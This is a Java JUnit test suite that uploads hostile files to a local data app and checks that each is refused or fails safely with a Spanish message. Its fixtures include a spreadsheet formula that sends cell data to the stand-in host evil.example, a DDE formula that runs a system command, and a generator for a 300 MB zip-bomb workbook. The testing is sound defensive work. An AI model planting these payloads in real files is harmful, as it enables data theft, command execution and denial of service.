package io.datagent.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Files an attacker or a careless new user uploads from the Datos page of the local App ({@code hostile/uploads.tsv}):
 * each is refused with a Spanish message or ends LOADED / PARTIAL / FAILED (with a Spanish reason) within a bounded
 * wait, nothing is written outside the workspace's uploads folder, and the App keeps answering.
 */
class HostileUploadsTest {

  static final ObjectMapper JSON = new ObjectMapper();
  static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
  static final Duration WAIT = Duration.ofSeconds(60);
  static final Pattern SPANISH = Pattern.compile("(?i)[áéíóúñ¿¡]|\\b(el|la|los|las|de|del|no|un|una|archivo|carga)\\b");
  static LocalAppFixture fixture;
  static Path uploads;

  record Case(int line, String generator, String fileName, String dataset, List<String> expected, String table,
      String shows) {
    @Override
    public String toString() {
      return "uploads.tsv:" + line + " " + generator + " " + fileName.replace("\0", "\\0").replace("\n", "\\n")
          + (dataset == null ? "" : " → " + dataset);
    }
  }

  @BeforeAll
  static void start() throws Exception {
    fixture = LocalAppFixture.shared();
    uploads = fixture.runtime.workspace().uploads().toAbsolutePath().normalize();
  }

  static Stream<Case> cases() throws IOException {
    List<Case> out = new ArrayList<>();
    try (InputStream in = HostileUploadsTest.class.getResourceAsStream("/hostile/uploads.tsv")) {
      String[] lines = new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n");
      for (int i = 0; i < lines.length; i++) {
        String l = lines[i];
        if (l.isBlank() || l.startsWith("#")) {
          continue;
        }
        String[] p = Arrays.copyOf(l.split("\t", -1), 6);
        out.add(new Case(i + 1, p[0], unescape(p[1]), p[2] == null || p[2].isEmpty() ? null : unescape(p[2]),
            List.of(p[3].split("\\|")), blankToNull(p[4]), blankToNull(p[5])));
      }
    }
    return out.stream();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void should_refuse_or_end_each_hostile_upload_with_a_spanish_reason_inside_the_uploads_folder(Case c) throws Exception {
    byte[] content = GENERATORS.get(c.generator()).get();
    long t0 = System.nanoTime();
    HttpResponse<String> res = upload(c.fileName(), c.dataset(), content);
    if (res.statusCode() != 202) {
      assertThat(String.valueOf(res.statusCode())).as(res.body()).isIn(c.expected());
      assertSpanishError(res);
    } else {
      JsonNode u = waitForEnd(JSON.readTree(res.body()));
      String status = u.path("status").asText();
      System.out.printf("hostile upload %s: %s %s%n", c, status, u.path("message").asText());
      assertThat(status).as(u.toString()).isIn(c.expected());
      assertThat(Path.of(u.path("volumePath").asText()).toAbsolutePath().normalize()).as("dónde quedó el archivo")
          .startsWith(uploads);
      if (status.equals("FAILED")) {
        assertThat(u.path("message").asText()).as(u.toString()).containsPattern(SPANISH)
            .as("a business user reads no Java exception").doesNotContainPattern("Exception|java\\.|Zip bomb");
      }
      if (c.table() != null) {
        StringBuilder shown = new StringBuilder();
        for (String t : c.table().split(",")) {
          shown.append(texts(preview(t.strip())));
        }
        for (String text : c.shows().split(" && ")) {
          assertThat(shown).as("vista previa de " + c.table()).contains(text);
        }
      }
    }
    assertThat(Duration.ofNanos(System.nanoTime() - t0)).isLessThan(WAIT);
    assertNothingEscaped();
    assertThat(get("/health").statusCode()).isEqualTo(200);
  }

  @Test
  void should_load_the_same_file_twice_without_duplicating_its_rows() throws Exception {
    byte[] file = csv("municipio;poblacion\nPeñarroya;10500\nBélmez;2900\nEspiel;2400\n", StandardCharsets.UTF_8);
    JsonNode first = waitForEnd(JSON.readTree(upload("repetido.csv", "repetido", file).body()));
    assertThat(first.path("status").asText()).as(first.toString()).isEqualTo("LOADED");
    JsonNode second = waitForEnd(JSON.readTree(upload("repetido.csv", "repetido", file).body()));
    assertThat(second.path("status").asText()).as(second.toString()).isIn("SKIPPED_DUPLICATE", "LOADED");
    assertThat(preview("repetido").path("rows")).hasSize(3);
  }

  @Test
  void should_keep_both_files_of_two_concurrent_uploads_into_one_dataset() throws Exception {
    byte[] a = csv("municipio;poblacion\nHuelva;143000\nMoguer;22000\n", StandardCharsets.UTF_8);
    byte[] b = csv("municipio;poblacion\nLepe;27000\nAyamonte;21000\nPalos;11000\n", StandardCharsets.UTF_8);
    CompletableFuture<HttpResponse<String>> fa = CompletableFuture.supplyAsync(() -> uncheckedUpload("a.csv", "concurrente", a));
    CompletableFuture<HttpResponse<String>> fb = CompletableFuture.supplyAsync(() -> uncheckedUpload("b.csv", "concurrente", b));
    for (HttpResponse<String> r : List.of(fa.join(), fb.join())) {
      assertThat(r.statusCode()).as(r.body()).isEqualTo(202);
      JsonNode u = waitForEnd(JSON.readTree(r.body()));
      assertThat(u.path("status").asText()).as(u.toString()).isEqualTo("LOADED");
    }
    String rows = preview("concurrente").toString();
    assertThat(preview("concurrente").path("rows")).hasSize(5);
    assertThat(rows).contains("Moguer", "Palos");
  }

  @AfterAll
  static void still_answers() throws Exception {
    assertNothingEscaped();
    HttpResponse<String> res = get("/api/tables");
    assertThat(res.statusCode()).as(res.body()).isEqualTo(200);
    assertThat(res.body()).contains("potenciainstalada");
  }

  // ---- checks

  /** No uploaded file (CSV, TXT, Excel) lies anywhere in the workspace but the uploads and archive folders. */
  static void assertNothingEscaped() throws IOException {
    Path ws = fixture.runtime.workspace().uploads().getParent();
    Path archive = fixture.runtime.workspace().archive().toAbsolutePath().normalize();
    try (Stream<Path> s = Files.walk(fixture.root)) {
      List<Path> escaped = s.filter(Files::isRegularFile).map(p -> p.toAbsolutePath().normalize())
          .filter(p -> p.getFileName().toString().matches("(?i).*\\.(csv|txt|xlsx?)$"))
          .filter(p -> !p.startsWith(uploads) && !p.startsWith(archive)).toList();
      assertThat(escaped).as("archivos fuera de la carpeta de cargas de " + ws).isEmpty();
    }
    for (Path p : List.of(fixture.root.resolve("etc/passwd.csv"), Path.of("/etc/passwd.csv"),
        Path.of("/tmp/datagent_hostile_abs.csv"), uploads.getParent().resolve("x_barra.csv"))) {
      assertThat(p).as("archivo escapado").doesNotExist();
    }
  }

  static void assertSpanishError(HttpResponse<String> res) throws IOException {
    JsonNode err = JSON.readTree(res.body());
    assertThat(err.path("error").asText()).as(res.body()).isNotBlank().containsPattern(SPANISH);
  }

  static JsonNode waitForEnd(JsonNode upload) throws Exception {
    String id = upload.path("id").asText();
    long deadline = System.nanoTime() + WAIT.toNanos();
    JsonNode u = upload;
    while (!Stream.of("LOADED", "PARTIAL", "FAILED", "SKIPPED_DUPLICATE").toList().contains(u.path("status").asText())) {
      assertThat(System.nanoTime()).as("la carga %s no terminó en %s: %s", id, WAIT, u).isLessThan(deadline);
      Thread.sleep(150);
      HttpResponse<String> r = get("/api/uploads/" + id);
      assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
      u = JSON.readTree(r.body());
    }
    return u;
  }

  static JsonNode preview(String table) throws Exception {
    HttpResponse<String> r = get("/api/tables/" + table + "/preview?limit=200");
    assertThat(r.statusCode()).as(table + ": " + r.body()).isEqualTo(200);
    return JSON.readTree(r.body());
  }

  /** Every value of a preview as text, one per line. */
  static String texts(JsonNode preview) {
    StringBuilder b = new StringBuilder();
    preview.path("rows").forEach(r -> r.forEach(v -> b.append(v.asText()).append('\n')));
    return b.toString();
  }

  // ---- HTTP

  static HttpResponse<String> get(String path) throws Exception {
    return HTTP.send(HttpRequest.newBuilder(URI.create(fixture.url(path))).timeout(Duration.ofSeconds(30)).build(),
        HttpResponse.BodyHandlers.ofString());
  }

  static HttpResponse<String> uncheckedUpload(String name, String dataset, byte[] content) {
    try {
      return upload(name, dataset, content);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  /** A multipart POST as a browser builds it, with the file name exactly as given (no escaping). */
  static HttpResponse<String> upload(String name, String dataset, byte[] content) throws Exception {
    String boundary = "----hostil" + UUID.randomUUID().toString().replace("-", "");
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    if (dataset != null) {
      body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"dataset\"\r\n\r\n" + dataset + "\r\n")
          .getBytes(StandardCharsets.UTF_8));
    }
    body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name
        + "\"\r\nContent-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
    body.write(content);
    body.write(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
    return HTTP.send(HttpRequest.newBuilder(URI.create(fixture.url("/api/uploads"))).timeout(WAIT)
        .header("Content-Type", "multipart/form-data; boundary=" + boundary)
        .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())).build(), HttpResponse.BodyHandlers.ofString());
  }

  // ---- file generators

  static final String SAMPLE = "municipio;provincia;potencia_mw\nPeñarroya;Córdoba;12,5\nÁvila;Ávila;3,25\nHuelva;Huelva;7\n";

  static final Map<String, Supplier<byte[]>> GENERATORS = Map.ofEntries(
      Map.entry("empty", () -> new byte[0]),
      Map.entry("header_only", () -> csv("municipio;provincia;potencia_mw\n", StandardCharsets.UTF_8)),
      Map.entry("plain", () -> csv(SAMPLE, StandardCharsets.UTF_8)),
      Map.entry("utf8_bom", () -> concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, csv(SAMPLE, StandardCharsets.UTF_8))),
      Map.entry("utf16le_bom", () -> concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, csv(SAMPLE, StandardCharsets.UTF_16LE))),
      Map.entry("utf16be_bom", () -> concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, csv(SAMPLE, StandardCharsets.UTF_16BE))),
      Map.entry("cp1252", () -> csv(SAMPLE, Charset.forName("windows-1252"))),
      Map.entry("mixed_eol", () -> csv("municipio;provincia;potencia_mw\r\nPeñarroya;Córdoba;12,5\nÁvila;Ávila;3,25\r\nHuelva;Huelva;7\n",
          StandardCharsets.UTF_8)),
      Map.entry("mixed_eol_cr", () -> csv("municipio;provincia;potencia_mw\r\nPeñarroya;Córdoba;12,5\nÁvila;Ávila;3,25\r"
          + "Huelva;Huelva;7\r\n", StandardCharsets.UTF_8)),
      Map.entry("wide_header", HostileUploadsTest::wideHeader),
      Map.entry("one_mb_line", () -> csv("a;b\n1;" + "x".repeat(1_000_000) + "\n", StandardCharsets.UTF_8)),
      Map.entry("unclosed_quote", () -> csv("municipio;nota\nPeñarroya;\"sin cerrar\nÁvila;bien\nHuelva;bien\n", StandardCharsets.UTF_8)),
      Map.entry("nul_bytes", () -> csv("municipio;nota\nPeñarroya;a\0b\n", StandardCharsets.UTF_8)),
      Map.entry("binary", HostileUploadsTest::binary),
      Map.entry("png_as_xlsx", () -> concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, binary())),
      Map.entry("zip_bomb", HostileUploadsTest::zipBomb),
      Map.entry("xlsx_book", HostileUploadsTest::xlsxBook),
      Map.entry("formula_injection", () -> csv("municipio\tformula\nPeñarroya\t=HYPERLINK(\"http://evil.example/?d=\"&A1;\"clic\")\n"
          + "Ávila\t=cmd|' /C calc'!A0\nHuelva\t+SUM(1;2)\nSevilla\t@SUM(1)\nCádiz\t-2+3\n", StandardCharsets.UTF_8)));

  static byte[] csv(String text, Charset cs) {
    return text.getBytes(cs);
  }

  static byte[] concat(byte[] a, byte[] b) {
    byte[] out = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  static byte[] wideHeader() {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < 10_000; i++) {
      b.append(i == 0 ? "" : ";").append("columna_").append(i);
    }
    b.append('\n');
    for (int i = 0; i < 10_000; i++) {
      b.append(i == 0 ? "" : ";").append(i);
    }
    return csv(b.append('\n').toString(), StandardCharsets.UTF_8);
  }

  static byte[] binary() {
    byte[] b = new byte[4096];
    new java.util.Random(42).nextBytes(b);
    b[0] = 0x7F;
    b[1] = 'E';
    b[2] = 'L';
    b[3] = 'F';
    b[4] = 0;
    return b;
  }

  /** A valid one-sheet workbook whose sheet XML is padded with 300 MB of spaces: ~300 KB compressed. */
  static byte[] zipBomb() {
    try {
      byte[] small = workbook(wb -> {
        Sheet s = wb.createSheet("datos");
        s.createRow(0).createCell(0).setCellValue("municipio");
        s.createRow(1).createCell(0).setCellValue("Huelva");
      });
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(small));
          ZipOutputStream zip = new ZipOutputStream(out)) {
        zip.setLevel(9);
        for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
          byte[] data = in.readAllBytes();
          zip.putNextEntry(new ZipEntry(e.getName()));
          if (e.getName().endsWith("sheet1.xml")) {
            String xml = new String(data, StandardCharsets.UTF_8);
            int cut = xml.indexOf("<sheetData");
            zip.write(xml.substring(0, cut).getBytes(StandardCharsets.UTF_8));
            byte[] spaces = new byte[1 << 20];
            Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < 300; i++) {
              zip.write(spaces);
            }
            zip.write(xml.substring(cut).getBytes(StandardCharsets.UTF_8));
          } else {
            zip.write(data);
          }
          zip.closeEntry();
        }
      }
      return out.toByteArray();
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  /** One workbook, one ingestion: a sheet with formulas, one with merged cells, a few more and an empty one. */
  static byte[] xlsxBook() {
    return workbook(wb -> {
      formulas(wb);
      merged(wb);
      manySheets(wb);
    });
  }

  static void formulas(XSSFWorkbook wb) {
    Sheet s = wb.createSheet("formulas");
    String[][] rows = {{"municipio", "a", "b", "total"}, {"Sevilla", "1", "2", null}, {"Cádiz", "3", "4", null}};
    for (int r = 0; r < rows.length; r++) {
      Row row = s.createRow(r);
      row.createCell(0).setCellValue(rows[r][0]);
      if (r == 0) {
        for (int c = 1; c < 4; c++) {
          row.createCell(c).setCellValue(rows[0][c]);
        }
      } else {
        row.createCell(1).setCellValue(Double.parseDouble(rows[r][1]));
        row.createCell(2).setCellValue(Double.parseDouble(rows[r][2]));
        row.createCell(3).setCellFormula("B" + (r + 1) + "+C" + (r + 1));
      }
    }
    wb.getCreationHelper().createFormulaEvaluator().evaluateAll();
  }

  static void manySheets(XSSFWorkbook wb) {
    for (int i = 3; i <= 5; i++) {
      Sheet s = wb.createSheet("Hoja " + i + (i % 2 == 0 ? " (año)" : ""));
      s.createRow(0).createCell(0).setCellValue("municipio");
      s.getRow(0).createCell(1).setCellValue("valor");
      Row r = s.createRow(1);
      r.createCell(0).setCellValue("Lugar " + i);
      r.createCell(1).setCellValue(i);
    }
    wb.createSheet("vacía");
  }

  static void merged(XSSFWorkbook wb) {
    Sheet s = wb.createSheet("combinadas");
    s.createRow(0).createCell(0).setCellValue("Informe de potencia (combinada)");
    s.addMergedRegion(new CellRangeAddress(0, 0, 0, 2));
    Row h = s.createRow(2);
    h.createCell(0).setCellValue("provincia");
    h.createCell(1).setCellValue("municipio");
    h.createCell(2).setCellValue("mw");
    String[][] data = {{"Huelva", "Moguer", "5"}, {null, "Lepe", "6"}, {"Sevilla", "Écija", "7"}};
    for (int i = 0; i < data.length; i++) {
      Row r = s.createRow(3 + i);
      if (data[i][0] != null) {
        r.createCell(0).setCellValue(data[i][0]);
      }
      r.createCell(1).setCellValue(data[i][1]);
      r.createCell(2).setCellValue(Double.parseDouble(data[i][2]));
    }
    s.addMergedRegion(new CellRangeAddress(3, 4, 0, 0));
  }

  interface Filler {
    void fill(XSSFWorkbook wb) throws IOException;
  }

  static byte[] workbook(Filler f) {
    try (XSSFWorkbook wb = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      f.fill(wb);
      wb.write(out);
      return out.toByteArray();
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  // ---- data file

  static String blankToNull(String s) {
    return s == null || s.isBlank() ? null : s;
  }

  static String unescape(String s) {
    Matcher m = Pattern.compile("\\{(\\d+)\\*(.)}").matcher(s);
    StringBuilder b = new StringBuilder();
    while (m.find()) {
      m.appendReplacement(b, Matcher.quoteReplacement(m.group(2).repeat(Integer.parseInt(m.group(1)))));
    }
    m.appendTail(b);
    return b.toString().replace("\\\\", "\u0001").replace("\\0", "\0").replace("\\n", "\n").replace("\u0001", "\\");
  }
}
